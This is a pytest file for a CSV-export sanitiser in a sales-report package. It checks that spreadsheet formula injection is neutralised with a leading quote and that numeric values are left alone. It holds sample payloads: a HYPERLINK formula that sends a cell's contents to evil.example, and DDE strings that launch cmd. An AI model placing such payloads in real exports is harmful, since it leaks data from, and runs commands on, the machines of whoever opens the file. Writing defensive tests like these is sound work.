"""CSV files people open in Excel carry no formula: OWASP neutralising, numbers kept."""

from __future__ import annotations

import pandas as pd
import pytest

from playbook.report import StepReport
from playbook.report.csv_safety import neutralise_text, neutralised, write_csv
from playbook.report.runner import write_alerts

HOSTILE_STAGE = '=HYPERLINK("http://evil.example/?x="&A1,"Proposal")'
HOSTILE_REP = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_REASON = "+cmd|' /C notepad'!A0"


def read_back(path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_a_leading_quote(start: str) -> None:
    cell = f"{start}1+2 then text"
    out = neutralise_text(pd.Series([cell, "plain"], dtype=object))
    assert out.tolist() == [f"'{cell}", "plain"]


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "amount": [-1200.5, 3.0],  # a numeric column is never touched
            "typed": ["-12.5", "+3"],  # text that is a plain number reads as that number
            "code": ["-12-5", "+3 items"],  # anything else starting so is neutralised
        }
    )
    out = neutralised(frame)
    assert out["amount"].tolist() == [-1200.5, 3.0]
    assert out["amount"].dtype == frame["amount"].dtype
    assert out["typed"].tolist() == ["-12.5", "+3"]
    assert out["code"].tolist() == ["'-12-5", "'+3 items"]
    assert frame["code"].tolist() == ["-12-5", "+3 items"]  # the input is not changed


def test_categories_and_headers_are_neutralised() -> None:
    frame = pd.DataFrame({"=bad header": pd.Categorical([HOSTILE_REP, "Ann", HOSTILE_REP])})
    out = neutralised(frame)
    assert list(out.columns) == ["'=bad header"]
    assert out.iloc[:, 0].astype(str).tolist() == [f"'{HOSTILE_REP}", "Ann", f"'{HOSTILE_REP}"]


def test_step_tables_and_alerts_written_for_people_are_safe(tmp_path) -> None:
    step = StepReport(tmp_path, "02_stage_rates")
    step.table(
        pd.DataFrame(
            {
                "stage_raw": [HOSTILE_STAGE, "Proposal"],
                "owner_id": [HOSTILE_REP, "R001"],
                "lost_reason": [HOSTILE_REASON, "price"],
                "deals": [3, -4],
            }
        ),
        "hostile",
        show=False,
    )
    table = read_back(tmp_path / "tables" / "02_hostile.csv")
    assert table["stage_raw"].tolist() == [f"'{HOSTILE_STAGE}", "Proposal"]
    assert table["owner_id"].tolist() == [f"'{HOSTILE_REP}", "R001"]
    assert table["lost_reason"].tolist() == [f"'{HOSTILE_REASON}", "price"]
    assert table["deals"].tolist() == ["3", "-4"]
    alerts = [
        {
            "kind": "sleeping_lead",
            "severity": 2,
            "owner_id": HOSTILE_REP,
            "deal_id": "D1",
            "reason": HOSTILE_REASON,
            "action": "call",
            "step": "06_lead_scoring",
        }
    ]
    write_alerts([{"alerts": alerts}], tmp_path / "alerts.csv")
    written = read_back(tmp_path / "alerts.csv")
    assert written.loc[0, "owner_id"] == f"'{HOSTILE_REP}"
    assert written.loc[0, "reason"] == f"'{HOSTILE_REASON}"
    assert written.loc[0, "severity"] == "2"


def test_write_csv_keeps_excel_bom_and_no_index(tmp_path) -> None:
    path = write_csv(pd.DataFrame({"a": ["=1"]}), tmp_path / "x.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert path.read_text(encoding="utf-8-sig").splitlines() == ["a", "'=1"]
